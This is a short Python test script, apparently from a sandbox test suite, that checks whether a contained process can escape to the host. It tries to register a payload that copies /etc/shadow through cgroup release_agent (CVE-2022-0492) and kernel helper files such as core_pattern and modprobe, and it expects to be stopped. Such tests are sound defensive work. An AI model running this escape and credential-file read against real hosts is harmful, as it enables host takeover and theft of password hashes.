# Has the host's kernel run a program when its group becomes empty (CVE-2022-0492), or by other helpers that the kernel calls.
# expect: stopped

import os

open('/work/agent', 'w').write('#!/bin/sh\ncat /etc/shadow > /work/got\n')
os.chmod('/work/agent', 0o755)
folders = ['/sys/fs/cgroup', '/work', '/proc/1/root/sys/fs/cgroup', '/proc/self/root/sys/fs/cgroup'] + \
          [f'/sys/fs/cgroup/{c}' for c in ('memory', 'pids', 'rdma', 'freezer', 'cpu', 'cpuacct', 'systemd', 'unified')]
helpers = ['/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sys/kernel/usermodehelper/bset',
           '/proc/sys/fs/binfmt_misc/register', '/sys/kernel/uevent_helper', '/proc/sys/kernel/poweroff_cmd', '/proc/sys/net/core/bpf_jit_enable']
for path in [f'{f}/{n}' for f in folders for n in ('release_agent', 'notify_on_release', 'cgroup.procs', 'tasks')] + helpers:
    try:
        fd = os.open(path, os.O_WRONLY)
        print('ESCAPED', path, os.write(fd, b'/work/agent'))
    except OSError as e:
        print(path, e.strerror)
if os.path.exists('/work/got'):
    print('ESCAPED: it ran')
print('stopped')
